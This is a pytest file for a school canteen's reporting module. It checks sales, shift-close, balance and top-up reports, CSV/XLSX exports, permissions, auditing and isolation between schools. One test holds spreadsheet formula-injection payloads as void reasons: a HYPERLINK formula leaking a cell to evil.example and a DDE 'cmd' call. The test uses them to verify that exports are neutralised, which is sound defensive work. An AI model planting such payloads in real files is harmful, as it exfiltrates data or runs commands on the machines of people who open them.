"""The canteen's reports against hand-counted sums of a small ledger built through the real
services (top-ups, the terminal API, the cashier's sale, voids, refunds, a card refund,
an offline sale of yesterday): sales by item and day, shift close, balances at a date,
top-ups by provider; their CSV and XLSX files; who may see which; other schools see
nothing (given / when / then)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.db.models.functions import TruncDate
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from openpyxl import load_workbook

from kezekshi.accounts.models import User
from kezekshi.accounts.roles import Role
from kezekshi.canteen import menu as menus
from kezekshi.canteen import pos, reports, services
from kezekshi.canteen.menu import local_today
from kezekshi.canteen.models import CanteenSettings, PaymentProvider, Wallet
from kezekshi.canteen.money import tenge
from kezekshi.canteen.selectors import check_ledger
from kezekshi.canteen.tests.conftest import Menu, Terminal, almaty, make_terminal, top_up
from kezekshi.conftest import make_school, verified_client
from kezekshi.core.models import School
from kezekshi.people import services as people_services
from kezekshi.people.models import Person, Pupil, SchoolClass
from kezekshi.privacy.models import AuditEntry

pytestmark = pytest.mark.django_db

D = Decimal


@dataclass
class Canteen:
    """The ledger every test reads (see ``canteen`` for the figures)."""

    school: School
    today: dt.date
    d1: dt.date  # yesterday
    d2: dt.date
    d3: dt.date
    pupil: Pupil  # 5 Ә
    grader: Pupil  # 2 А, a free lunch by grade
    third: Pupil  # 5 Ә, in debt after a card refund
    terminal: Terminal
    cashier: User
    wallets: dict[str, Wallet]


@pytest.fixture
def canteen(
    school: School,
    school_class: SchoolClass,
    pupil: Pupil,
    menu: Menu,
    kaspi: PaymentProvider,
    qiwi: PaymentProvider,
    card: PaymentProvider,
    make_user: Any,
) -> Canteen:
    """Given, in Almaty time (T = today, Dn = n days ago):

    - pupil: Kaspi 2,000 on D3 09:00; yesterday (D1) an offline plov 600 at the terminal;
      today at the terminal borscht + compote 500 (K1-1, 150 refunded: compote spilt) and
      plov 600 (K1-2, voided: wrong pupil); at the cashier's page tea ×2 = 100 (w-1);
    - grader (grade 2, free lunch up to 500): Qiwi 1,000 on D2 00:30 (D3 in UTC!); today
      plov + compote 750 at the terminal (K1-3): 500 from the fund, 250 from the wallet;
      tea 50 (K1-4, voided: test sale);
    - third: a card top-up of 100 on D1; today tea ×2 = 100 at the cashier's page (w-2),
      then the bank refunds the card: the wallet owes 100.
    """
    today = local_today()
    d1, d2, d3 = (today - dt.timedelta(days=n) for n in (1, 2, 3))
    grade_two = SchoolClass.objects.create(school=school, grade=2, letter="А")
    grader = people_services.create_pupil(
        school=school, last_name="Кішкентай", first_name="Айым", school_class=grade_two
    )
    third = people_services.create_pupil(
        school=school, last_name="Берік", first_name="Дана", school_class=school_class
    )
    CanteenSettings.objects.update_or_create(school=school, defaults={"free_lunch_cost": D(500)})
    wallets = {
        "pupil": services.wallet_for(pupil=pupil),
        "grader": services.wallet_for(pupil=grader),
        "third": services.wallet_for(pupil=third),
    }
    top_up(wallets["pupil"], kaspi, "2000.00", "k-1", at=f"{d3} 09:00")
    top_up(wallets["grader"], qiwi, "1000.00", "q-1", at=f"{d2} 00:30")
    card_topup = top_up(wallets["third"], card, "100.00", "c-1", at=f"{d1} 10:00")

    terminal = make_terminal(school)
    yesterday_lunch = menus.set_menu(
        school=school, date=d1, meal="lunch", items=[(menu.dish["plov"], None)], publish=True
    )
    offline = terminal.post(
        "/offline-sales",
        {
            "sales": [
                {
                    "txn_id": "K1-0",
                    "pupil_id": pupil.pk,
                    "sold_at": almaty(f"{d1} 12:00").isoformat(),
                    "items": [{"menu_item_id": yesterday_lunch.items.get().pk, "quantity": 1}],
                }
            ]
        },
    )
    assert offline.json()["booked"] == 1, offline.content
    item = menu.item
    for txn, who, dishes in (
        ("K1-1", pupil, (item["borscht"], item["compote"])),
        ("K1-2", pupil, (item["plov"],)),
        ("K1-3", grader, (item["plov"], item["compote"])),
    ):
        sold = terminal.sell(who, txn, *dishes)
        assert sold.status_code == 200, sold.content
    assert terminal.sell(grader, "K1-4", item["tea"]).status_code == 200
    assert terminal.post("/sales/K1-4/void", {"reason": "test sale"}).status_code == 200
    assert terminal.post("/sales/K1-2/void", {"reason": "wrong pupil"}).status_code == 200
    refund = terminal.post(
        "/sales/K1-1/refund", {"refund_id": "R-1", "amount": "150.00", "reason": "compote spilt"}
    )
    assert refund.status_code == 200, refund.content

    cashier = make_user(Role.CASHIER, school, full_name="Айгүл Кассирова", language="en")
    tea = [pos.Asked(menu_item_id=item["tea"].pk, quantity=2)]
    pos.sell(pupil=pupil, items=tea, txn_id="w-1", cashier=cashier)
    pos.sell(pupil=third, items=tea, txn_id="w-2", cashier=cashier)
    services.refund_topup(topup=card_topup.transaction, amount=D("100.00"), refund_id="c-1-r")
    assert check_ledger(school=school).ok
    return Canteen(school, today, d1, d2, d3, pupil, grader, third, terminal, cashier, wallets)


def rows_of(table: reports.Table) -> list[list[Any]]:
    return [list(row) for row in table.rows]


# --- 1. sales by item and day ------------------------------------------------------------


def test_sales_by_item_and_day_add_up_to_the_sales_and_split_fund_and_wallets(
    canteen: Canteen,
) -> None:
    # when the accountant asks for yesterday and today
    report = reports.sales_by_item(canteen.school, canteen.d1, canteen.today)
    days, items, dishes = report.tables
    # then per day: sales (voids left out), the fund's part, the wallets', the refunds
    assert rows_of(days) == [
        [canteen.d1, 1, D("600.00"), D("0.00"), D("600.00"), D("0.00"), D("600.00")],
        [canteen.today, 4, D("1450.00"), D("500.00"), D("950.00"), D("150.00"), D("800.00")],
    ]
    assert days.total == ["Total", 5, D("2050.00"), D("500.00"), D("1550.00"), D("150.00"),
                          D("1400.00")]  # fmt: skip
    # and per day and dish (the voided plov and tea are not sales)
    assert [row[:2] + row[3:] for row in rows_of(items)] == [
        [canteen.d1, "Plov", 1, D("600.00")],
        [canteen.today, "Borscht", 1, D("350.00")],
        [canteen.today, "Compote", 2, D("300.00")],
        [canteen.today, "Plov", 1, D("600.00")],
        [canteen.today, "Tea", 4, D("200.00")],
    ]
    assert items.total == ["Total", "", "", 9, D("2050.00")]
    # and per dish over the period, the best-selling first
    assert [row[0] for row in dishes.rows] == ["Plov", "Borscht", "Compote", "Tea"]
    assert dishes.rows[0][2:] == [2, D("1200.00")]


def test_a_period_without_sales_is_empty(canteen: Canteen) -> None:
    report = reports.sales_by_item(canteen.school, canteen.d3, canteen.d2)
    assert all(not table.rows for table in report.tables)
    assert report.tables[0].total == ["Total", 0, D(0), D(0), D(0), D(0), D(0)]


# --- 2. shift close ----------------------------------------------------------------------


def test_the_terminals_shift_close_counts_sales_voids_refunds_and_the_net(
    canteen: Canteen,
) -> None:
    till = reports.Till(device=canteen.terminal.device)
    report = reports.shift_close(canteen.school, canteen.today, till, show_blocked=False)
    summary, voids, refunds, items = report.tables
    # then: K1-1 500, K1-2 600 (voided), K1-3 750 (500 of it free), K1-4 50 (voided)
    assert summary.rows[0] == ["Sales rung up", 4, D("1900.00"), D("500.00"), D("1400.00")]
    assert summary.rows[1][:2] == ["of them sold offline", 0]
    assert summary.rows[2] == ["Voided", 2, D("-650.00"), D("0.00"), D("-650.00")]
    assert summary.rows[3] == ["Refunded", 1, D("-150.00"), D("0.00"), D("-150.00")]
    assert summary.total == ["Net", 2, D("1100.00"), D("500.00"), D("600.00")]
    # and each void and refund with its pupil and reason
    assert sorted((row[2], row[5], row[6]) for row in voids.rows) == [
        ("K1-2", D("600.00"), "wrong pupil"),
        ("K1-4", D("50.00"), "test sale"),
    ]
    assert {row[4] for row in voids.rows} == {
        canteen.pupil.person.full_name,
        canteen.grader.person.full_name,
    }
    assert [(row[1], row[2], row[3], row[5], row[6]) for row in refunds.rows] == [
        ("R-1", "K1-1", canteen.pupil.account_number, D("150.00"), "compote spilt")
    ]
    # and the dishes actually sold
    assert {row[0]: row[1:] for row in items.rows} == {
        "Borscht": [1, D("350.00")],
        "Compote": [2, D("300.00")],
        "Plov": [1, D("600.00")],
    }
    assert items.total == ["Total", 4, D("1250.00")]


def test_a_cashiers_shift_is_only_their_sales_and_yesterdays_offline_sale_is_its_day(
    canteen: Canteen,
) -> None:
    mine = reports.shift_close(
        canteen.school, canteen.today, reports.Till(cashier=canteen.cashier), show_blocked=False
    )
    assert mine.tables[0].rows[0] == ["Sales rung up", 2, D("200.00"), D("0.00"), D("200.00")]
    assert mine.tables[0].total == ["Net", 2, D("200.00"), D("0.00"), D("200.00")]
    assert not mine.tables[1].rows and not mine.tables[2].rows
    yesterday = reports.shift_close(
        canteen.school,
        canteen.d1,
        reports.Till(device=canteen.terminal.device),
        show_blocked=False,
    )
    assert yesterday.tables[0].rows[0][:3] == ["Sales rung up", 1, D("600.00")]
    assert yesterday.tables[0].rows[1][:2] == ["of them sold offline", 1]
    # and every till of today together
    everyone = reports.shift_close(
        canteen.school, canteen.today, reports.Till(), show_blocked=False
    )
    assert everyone.tables[0].total == ["Net", 4, D("1300.00"), D("500.00"), D("800.00")]


# --- 3. balances at a date ---------------------------------------------------------------


def test_balances_come_from_the_ledger_debts_first_and_match_the_cached_balances_today(
    canteen: Canteen,
) -> None:
    report = reports.balances_at(
        canteen.school, canteen.today, school_class=None, show_blocked=False
    )
    table, summary = report.tables
    assert [(row[1], row[3], row[4]) for row in table.rows] == [
        ("Берік Дана", D("-100.00"), "in debt"),
        ("Кішкентай Айым", D("750.00"), ""),
        (canteen.pupil.person.full_name, D("950.00"), ""),
    ]
    assert summary.rows == [[3, 1, D("1700.00"), D("100.00"), D("1600.00")]]
    assert table.total == ["Total", "3 pupils", "", D("1600.00"), ""]
    for wallet in canteen.wallets.values():
        wallet.refresh_from_db()
    assert sorted(w.balance for w in canteen.wallets.values()) == [D(-100), D(750), D(950)]


def test_the_balance_at_a_past_date_ignores_later_movements_and_counts_days_in_almaty(
    canteen: Canteen,
) -> None:
    def at(day: dt.date) -> dict[str, Decimal]:
        report = reports.balances_at(canteen.school, day, school_class=None, show_blocked=False)
        return {row[1]: row[3] for row in report.tables[0].rows}

    name = canteen.pupil.person.full_name
    # D3: only the Kaspi top-up; Qiwi's 00:30 on D2 in Almaty is still D3 in UTC
    assert at(canteen.d3) == {name: D(2000), "Кішкентай Айым": D(0), "Берік Дана": D(0)}
    assert at(canteen.d2) == {name: D(2000), "Кішкентай Айым": D(1000), "Берік Дана": D(0)}
    assert at(canteen.d1) == {name: D(1400), "Кішкентай Айым": D(1000), "Берік Дана": D(100)}
    assert set(at(canteen.d3 - dt.timedelta(days=1)).values()) == {D(0)}


def test_the_class_filter_lists_one_class(canteen: Canteen) -> None:
    grade_two = canteen.grader.school_class
    report = reports.balances_at(
        canteen.school, canteen.today, school_class=grade_two, show_blocked=False
    )
    assert [row[1] for row in report.tables[0].rows] == ["Кішкентай Айым"]
    assert report.tables[1].rows == [[1, 0, D("750.00"), D("0.00"), D("750.00")]]


# --- 4. top-ups by provider --------------------------------------------------------------


def test_top_ups_per_provider_and_day_with_card_refunds_and_the_net(canteen: Canteen) -> None:
    report = reports.topups_by_provider(canteen.school, canteen.d3, canteen.today)
    by_day, by_provider = report.tables
    assert rows_of(by_day) == [
        ["Cloudpayments Bank", canteen.d1, 1, D("100.00"), 0, D("0.00"), D("100.00")],
        ["Cloudpayments Bank", canteen.today, 0, D("0.00"), 1, D("100.00"), D("-100.00")],
        ["Kaspi Bank", canteen.d3, 1, D("2000.00"), 0, D("0.00"), D("2000.00")],
        ["Qiwi Bank", canteen.d2, 1, D("1000.00"), 0, D("0.00"), D("1000.00")],
    ]
    assert rows_of(by_provider) == [
        ["Cloudpayments Bank", 1, D("100.00"), 1, D("100.00"), D("0.00")],
        ["Kaspi Bank", 1, D("2000.00"), 0, D("0.00"), D("2000.00")],
        ["Qiwi Bank", 1, D("1000.00"), 0, D("0.00"), D("1000.00")],
    ]
    assert by_provider.total == ["Total", 3, D("3100.00"), 1, D("100.00"), D("3000.00")]
    # a day is Almaty's: the Qiwi payment at 00:30 on D2 is not D3's
    only_d3 = reports.topups_by_provider(canteen.school, canteen.d3, canteen.d3)
    assert [row[0] for row in only_d3.tables[0].rows] == ["Kaspi Bank"]


@pytest.mark.parametrize(
    ("first", "last"),
    [
        ("2024-02-20", "2024-02-28"),  # Almaty at UTC+6 all along: a fixed shift on SQLite
        ("2024-02-25", "2024-03-05"),  # across the move to UTC+5: the zone's own rules
    ],
)
def test_days_follow_almatys_offset_of_the_time_even_across_its_change(
    wallet: Wallet, kaspi: PaymentProvider, first: str, last: str
) -> None:
    # given payments at 23:30 and 00:30 in Almaty when Almaty was UTC+6
    top_up(wallet, kaspi, "100.00", "late", at="2024-02-27 23:30")
    top_up(wallet, kaspi, "200.00", "early", at="2024-02-28 00:30")
    # when the top-ups are reported per day
    since, until = dt.date.fromisoformat(first), dt.date.fromisoformat(last)
    report = reports.topups_by_provider(wallet.school, since, until)
    # then each is on its Almaty day
    assert [(row[1], row[3]) for row in report.tables[0].rows] == [
        (dt.date(2024, 2, 27), D("100.00")),
        (dt.date(2024, 2, 28), D("200.00")),
    ]
    if connection.vendor == "sqlite":  # (and each path was taken)
        day = reports.local_day("booked_at", since, until)
        assert isinstance(day, TruncDate) == (since.month == 2 and until.month == 3)


def test_reports_take_a_fixed_number_of_queries_however_much_was_sold(
    canteen: Canteen, menu: Menu
) -> None:
    def queries() -> list[int]:
        counts = []
        for build in (
            lambda: reports.sales_by_item(canteen.school, canteen.d3, canteen.today),
            lambda: reports.shift_close(
                canteen.school, canteen.today, reports.Till(), show_blocked=False
            ),
            lambda: reports.balances_at(
                canteen.school, canteen.today, school_class=None, show_blocked=False
            ),
            lambda: reports.topups_by_provider(canteen.school, canteen.d3, canteen.today),
        ):
            with CaptureQueriesContext(connection) as captured:
                build()
            counts.append(len(captured))
        return counts

    before = queries()
    # when more pupils buy more (and get refunds and voids)
    for n in range(5):
        extra = people_services.create_pupil(
            school=canteen.school, last_name=f"Қосымша{n}", first_name="Оқушы"
        )
        top_up(services.wallet_for(pupil=extra), PaymentProvider.objects.get(code="kaspi"),
               "1000.00", f"more-{n}")  # fmt: skip
        canteen.terminal.sell(extra, f"M-{n}", menu.item["plov"], menu.item["tea"])
        canteen.terminal.post(f"/sales/M-{n}/void", {"reason": "again"})
    # then the same queries answer
    assert queries() == before
    assert max(before) <= 7


# --- pages, files, permissions, audit, other schools ------------------------------------


def period(canteen: Canteen, first: dt.date | None = None) -> dict[str, str]:
    return {"from": str(first or canteen.d1), "to": str(canteen.today)}


@pytest.fixture
def accountant(canteen: Canteen, make_user: Any) -> Client:
    return verified_client(make_user(Role.ACCOUNTANT, canteen.school, language="en"))


def test_the_accountant_sees_each_report_page(canteen: Canteen, accountant: Client) -> None:
    index = accountant.get("/canteen/reports/")
    assert index.status_code == 200
    for url in ("sales", "shift", "balances", "topups"):
        assert f"/canteen/reports/{url}/" in index.content.decode()
    assert "/canteen/free-meals/report/" in index.content.decode()
    sales = accountant.get("/canteen/reports/sales/", period(canteen)).content.decode()
    assert tenge(D("1450.00")) in sales and tenge(D("2050.00")) in sales
    topups = accountant.get("/canteen/reports/topups/", period(canteen, canteen.d3))
    assert tenge(D("3100.00")) in topups.content.decode()
    shift = accountant.get(
        "/canteen/reports/shift/", {"till": f"d{canteen.terminal.device.pk}"}
    ).content.decode()
    assert "wrong pupil" in shift and "compote spilt" in shift and tenge(D("1100.00")) in shift
    balances = accountant.get("/canteen/reports/balances/").content.decode()
    assert canteen.pupil.account_number in balances and tenge(D("1600.00")) in balances


def test_the_sales_xlsx_has_numbers_with_two_decimals_and_dates_as_dates(
    canteen: Canteen, accountant: Client
) -> None:
    response = accountant.get("/canteen/reports/sales.xlsx", period(canteen))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert (
        f"sales-{canteen.school.bin}-{canteen.d1}_{canteen.today}.xlsx"
        in (response["Content-Disposition"])
    )
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["By day", "By day and dish", "By dish, whole period"]
    sheet = book["By day"]
    assert sheet["A2"].value == "Date"
    first = [cell.value for cell in sheet[3]]
    assert first[0] == dt.datetime.combine(canteen.d1, dt.time())  # a date cell
    assert sheet["A3"].number_format == "DD.MM.YYYY"
    assert first[1:] == [1, 600, 0, 600, 0, 600]
    assert sheet["C3"].number_format == "#,##0.00"
    total = [cell.value for cell in sheet[5]]
    assert total[0] == "Total" and D(str(total[2])) == D("2050.00")
    assert D(str(total[4])) == D("1550.00") and D(str(total[6])) == D("1400.00")


def test_the_csv_holds_one_table_and_parses(canteen: Canteen, accountant: Client) -> None:
    response = accountant.get("/canteen/reports/sales.csv", {**period(canteen), "table": "items"})
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0] == ["Date", "Dish", "Category", "Quantity", "Amount, ₸"]
    assert rows[1][0] == canteen.d1.strftime("%d.%m.%Y") and rows[1][3:] == ["1", "600.00"]
    assert rows[-1] == ["Total", "", "", "9", "2050.00"]
    assert sum(D(row[4]) for row in rows[1:-1]) == D("2050.00")


def test_text_a_till_typed_stays_text_in_the_csv_and_xlsx_never_a_formula(
    canteen: Canteen, accountant: Client, menu: Menu
) -> None:
    # given void reasons a terminal sent that a spreadsheet would run as a formula, and
    # one with a control character no XLSX cell may hold
    reasons = {
        "INJ-0": '=HYPERLINK("http://evil.example/?"&A1,"details")',
        "INJ-1": "+cmd|' /C calc'!A0",
        "INJ-2": "@SUM(1+1)",
        "INJ-3": "-2+3",
        "INJ-4": "bell\x07here",
    }
    for txn, reason in reasons.items():
        assert canteen.terminal.sell(canteen.pupil, txn, menu.item["tea"]).status_code == 200
        assert canteen.terminal.post(f"/sales/{txn}/void", {"reason": reason}).status_code == 200
    query = {"till": f"d{canteen.terminal.device.pk}", "table": "voids"}
    # when the accountant downloads the shift close as CSV
    response = accountant.get("/canteen/reports/shift.csv", query)
    rows = list(csv.reader(io.StringIO(response.content.decode()[1:]), delimiter=";"))
    written = {row[2]: row[6] for row in rows[1:-1]}
    # then no cell starts with what makes a spreadsheet compute it: it reads as text
    for txn in ("INJ-0", "INJ-1", "INJ-2", "INJ-3"):
        assert written[txn] == "'" + reasons[txn], txn
    assert written["K1-2"] == "wrong pupil"  # plain text is left as it is
    assert rows[-1][5] == "900.00"  # and amounts stay numbers
    # and in the XLSX each is a text cell holding the reason as typed (less the bell)
    xlsx = accountant.get("/canteen/reports/shift.xlsx", query)
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["Voids"]
    cells = {row[2].value: row[6] for row in sheet.iter_rows(min_row=3) if row[2].value}
    for txn in ("INJ-0", "INJ-1", "INJ-2", "INJ-3"):
        assert (cells[txn].data_type, cells[txn].value) == ("s", reasons[txn]), txn
    assert cells["INJ-4"].value == "bellhere"


def test_viewing_or_exporting_balances_is_an_audited_read_and_sales_are_not(
    canteen: Canteen, accountant: Client
) -> None:
    accountant.get("/canteen/reports/balances/")
    accountant.get("/canteen/reports/balances.xlsx")
    accountant.get("/canteen/reports/balances.csv")
    accountant.get("/canteen/reports/sales/")
    entries = AuditEntry.objects.filter(
        school=canteen.school, details__list__startswith="canteen_report"
    )
    assert sorted((e.action, e.details["list"]) for e in entries) == [
        ("export", "canteen_report_balances"),
        ("export", "canteen_report_balances"),
        ("view", "canteen_report_balances"),
    ]
    # and a shift with voids names pupils: audited too
    accountant.get("/canteen/reports/shift/")
    assert entries.filter(details__list="canteen_report_shift").count() == 1


def test_a_blocked_pupil_is_one_unnamed_line_for_the_accountant_and_marked_for_the_admin(
    canteen: Canteen, accountant: Client, make_user: Any
) -> None:
    Person.objects.filter(pk=canteen.third.person_id).update(blocked_at=timezone.now())
    page = accountant.get("/canteen/reports/balances/").content.decode()
    assert "Берік" not in page and canteen.third.account_number not in page
    assert "Pupils whose data are blocked: 1" in page
    assert tenge(D("1600.00")) in page  # the total still counts them
    admin = verified_client(make_user(Role.SCHOOL_ADMIN, canteen.school, language="en"))
    shown = admin.get("/canteen/reports/balances/").content.decode()
    assert "Берік Дана" in shown and canteen.third.account_number not in shown


def test_offline_sales_that_broke_a_rule_or_left_a_debt_are_listed_for_the_manager(
    canteen: Canteen, accountant: Client, menu: Menu, make_user: Any
) -> None:
    from kezekshi.canteen import controls

    # given the parents' ban of celery after the terminal's last sync, and the third pupil
    # in debt; the terminal sold offline a borscht (celery) and a tea to them
    admin = make_user(Role.SCHOOL_ADMIN, canteen.school, language="en")
    controls.set_controls(pupil=canteen.pupil, by=admin, daily_limit=None, allergens=["celery"])
    at = timezone.now() - dt.timedelta(minutes=20)
    sales = [
        {"txn_id": "OFF-A", "pupil_id": canteen.pupil.pk, "sold_at": at.isoformat(),
         "items": [{"menu_item_id": menu.item["borscht"].pk, "quantity": 1}]},
        {"txn_id": "OFF-D", "pupil_id": canteen.third.pk, "sold_at": at.isoformat(),
         "items": [{"menu_item_id": menu.item["tea"].pk, "quantity": 1}]},
    ]  # fmt: skip
    assert canteen.terminal.post("/offline-sales", {"sales": sales}).json()["booked"] == 2
    # when the accountant opens the offline sales to check
    page = accountant.get("/canteen/reports/offline/", period(canteen)).content.decode()
    # then both are there, with what to check; yesterday's offline plov that broke
    # nothing is not
    assert "contains an allergen of the pupil" in page
    assert "the balance did not cover it" in page
    assert canteen.pupil.account_number in page and canteen.third.account_number in page
    report = reports.offline_checks(canteen.school, canteen.d1, canteen.today, show_blocked=False)
    assert [row[5:7] for row in report.tables[0].rows] == [
        [D("350.00"), D("0.00")],
        [D("50.00"), D("50.00")],
    ]
    assert report.tables[0].total is not None and report.tables[0].total[5:7] == [
        D("400.00"),
        D("50.00"),
    ]
    exported = accountant.get("/canteen/reports/offline.csv", period(canteen))
    rows = list(csv.reader(io.StringIO(exported.content.decode()[1:]), delimiter=";"))
    assert len(rows) == 4  # the heading, two sales, the total
    views = AuditEntry.objects.filter(details__list="canteen_report_offline")
    assert sorted(views.values_list("action", flat=True)) == ["export", "view"]


def test_the_cashier_sees_only_their_own_shift(canteen: Canteen, make_user: Any) -> None:
    client = verified_client(canteen.cashier)
    assert client.get("/canteen/reports/shift/").status_code == 403
    assert client.get("/canteen/reports/balances.xlsx").status_code == 403
    # a terminal named in the address changes nothing: the page is the cashier's
    page = client.get("/canteen/till/shift/", {"till": f"d{canteen.terminal.device.pk}"})
    assert page.status_code == 200
    text = page.content.decode()
    assert "Айгүл Кассирова" in text and tenge(D("200.00")) in text
    assert "wrong pupil" not in text and tenge(D("1100.00")) not in text
    printable = client.get("/canteen/till/shift.csv")
    rows = list(csv.reader(io.StringIO(printable.content.decode()[1:]), delimiter=";"))
    assert rows[-1] == ["Net", "2", "200.00", "0.00", "200.00"]
    # the accountant has no till
    accountant = verified_client(make_user(Role.ACCOUNTANT, canteen.school, language="en"))
    assert accountant.get("/canteen/till/shift/").status_code == 403
    guard = verified_client(make_user(Role.GUARD, canteen.school, language="en"))
    assert guard.get("/canteen/reports/sales/").status_code == 403


def test_another_schools_admin_sees_nothing_of_this_school(
    canteen: Canteen, make_user: Any
) -> None:
    elsewhere = make_school(prefix=2002, region_code="astana")
    client = verified_client(make_user(Role.SCHOOL_ADMIN, elsewhere, language="en"))
    for url in ("sales", "shift", "balances", "topups", "offline"):
        for suffix in ("/", ".csv", ".xlsx"):
            response = client.get(f"/canteen/reports/{url}{suffix}", period(canteen, canteen.d3))
            assert response.status_code == 200, (url, suffix)
            body = response.content.decode(errors="replace")
            for secret in (canteen.pupil.account_number, canteen.pupil.person.last_name,
                           "Kaspi Bank", "Plov", "compote spilt"):  # fmt: skip
                assert secret not in body, (url, suffix, secret)
    # and naming this school's till or class is not found
    device = canteen.terminal.device.pk
    assert client.get("/canteen/reports/shift/", {"till": f"d{device}"}).status_code == 404
    cashier = canteen.cashier.pk
    assert client.get("/canteen/reports/shift/", {"till": f"c{cashier}"}).status_code == 404
    school_class = str(canteen.pupil.school_class_id)
    assert client.get("/canteen/reports/balances/", {"class": school_class}).status_code == 404
    # and its own (empty) figures are zero
    with translation.override("en"):
        mine = reports.sales_by_item(elsewhere, canteen.d3, canteen.today)
    assert mine.tables[0].total == ["Total", 0, D(0), D(0), D(0), D(0), D(0)]
